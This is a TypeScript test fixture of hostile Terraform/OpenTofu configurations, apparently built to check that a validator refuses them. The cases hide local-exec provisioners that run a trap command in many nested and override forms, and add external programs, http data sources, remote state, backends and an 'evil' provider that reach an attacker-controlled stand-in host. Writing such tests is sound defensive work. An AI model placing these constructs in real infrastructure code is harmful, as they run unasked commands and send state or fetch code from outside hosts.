import { data, Hostile, Traps } from "./made";

const run = ({ command }: Traps): object => ({ "local-exec": { command } });
const hcl = (command: string): string => `provisioner "local-exec" {\n  command = ${JSON.stringify(command)}\n}`;
const PROVISIONER = "MLP-REHEARSE-006";
const LIVE = "MLP-REHEARSE-007";

/** A stack whose JSON acts, in one of the forms that Terraform takes for a block. */
function acting(name: string, refusedWith: string, json: (traps: Traps) => unknown): Hostile {
  return { name, refusedWith, codes: { rehearse: 1 }, write: (made, traps) => made.stack(json(traps)) };
}

/** A stack with a file beside the synthesized one. */
function beside(name: string, file: string, refusedWith: string, text: (traps: Traps) => string): Hostile {
  return {
    name: `beside: ${name}`,
    refusedWith,
    codes: { rehearse: 1 },
    write: (made, traps) => made.stack(data({ input: 1 }), { [file]: text(traps) }),
  };
}

/** Every form of a block that would run something, reach something, or keep its state elsewhere. */
export const ACTING: readonly Hostile[] = [
  acting("provisioner as an object", PROVISIONER, (traps) => data({ provisioner: run(traps) })),
  acting("provisioner as a list", PROVISIONER, (traps) =>
    data({ provisioner: [{ "local-exec": [run(traps)["local-exec" as never]] }] }),
  ),
  acting("provisioner under lists everywhere", PROVISIONER, (traps) => ({
    resource: [{ terraform_data: [{ A: [{ input: 1, provisioner: [run(traps)] }] }] }],
  })),
  acting("provisioner in a list of a list", PROVISIONER, (traps) => ({
    resource: { terraform_data: { A: [[{ input: 1 }, { provisioner: run(traps) }]] } },
  })),
  acting("provisioner in a configuration that is a list", PROVISIONER, (traps) => [
    data({ input: 1 }),
    { resource: { terraform_data: { B: { provisioner: run(traps) } } } },
  ]),
  acting("provisioner of a removed resource", PROVISIONER, (traps) => ({
    removed: [
      {
        from: "terraform_data.Gone",
        lifecycle: [{ destroy: true }],
        provisioner: { "local-exec": { when: "destroy", command: traps.command } },
      },
    ],
  })),
  acting("external data under lists", LIVE, ({ command }) => ({
    data: [{ external: [{ E: [{ program: command.split(" ") }] }] }],
  })),
  acting("http data in a check under lists", LIVE, ({ host }) => ({
    check: [
      {
        C: [
          {
            data: [{ http: [{ H: [{ url: `http://${host}/check` }] }] }],
            assert: { condition: true, error_message: "no" },
          },
        ],
      },
    ],
  })),
  acting("remote state under lists", "MLP-REHEARSE-009", ({ host }) => ({
    data: [{ terraform_remote_state: [{ R: [{ backend: "http", config: { address: `http://${host}/state` } }] }] }],
  })),
  acting("provider of a host of the attacker", "MLP-REHEARSE-008", ({ host }) => ({
    terraform: { required_providers: { evil: { source: `${host}/a/evil`, version: "1.0.0" } } },
    resource: { evil_x: { A: {} } },
  })),
  {
    name: "backend under lists",
    codes: { rehearse: 0 },
    write: (made, { host }) =>
      made.stack({
        terraform: [{ backend: [{ http: [{ address: `http://${host}/backend` }] }] }],
        ...data({ input: 1 }),
      }),
  },
  {
    name: "two backends",
    codes: { report: 2, rehearse: 2 },
    write: (made, { host }) =>
      made.stack({ terraform: [{ backend: { local: {} } }, { backend: { http: { address: `http://${host}/two` } } }] }),
  },
  {
    name: "a name twice in one object",
    codes: { report: 2, rehearse: 2 },
    write: (made, { command }) =>
      made.stack(
        `{"resource":{"terraform_data":{"A":{"provisioner":{"local-exec":{"command":${JSON.stringify(command)}}}}}},"resource":{}}`,
      ),
  },
  beside(
    "a provisioner",
    "more.tf",
    PROVISIONER,
    ({ command }) => `resource "terraform_data" "B" {\n${hcl(command)}\n}\n`,
  ),
  beside(
    "an override",
    "override.tf",
    PROVISIONER,
    ({ command }) => `resource "terraform_data" "A" {\n${hcl(command)}\n}\n`,
  ),
  beside("an override in JSON", "x_override.tf.json", PROVISIONER, (traps) =>
    JSON.stringify(data([{ provisioner: [run(traps)] }])),
  ),
  beside(
    "a name twice in JSON",
    "more.tf.json",
    "MLP-REHEARSE-015",
    (traps) => `{"resource":{"terraform_data":{"B":{"provisioner":${JSON.stringify(run(traps))}}}},"resource":{}}`,
  ),
  beside(
    "a backend that overrides",
    "override.tf",
    "MLP-REHEARSE-017",
    ({ host }) => `terraform {\n  backend "http" {\n    address = "http://${host}/override"\n  }\n}\n`,
  ),
  beside(
    "OpenTofu's own file",
    "more.tofu",
    PROVISIONER,
    ({ command }) => `resource "terraform_data" "B" {\n${hcl(command)}\n}\n`,
  ),
  beside("not HCL", "more.tf", "MLP-REHEARSE-015", () => 'resource "terraform_data" "B" { ` }\n'),
];
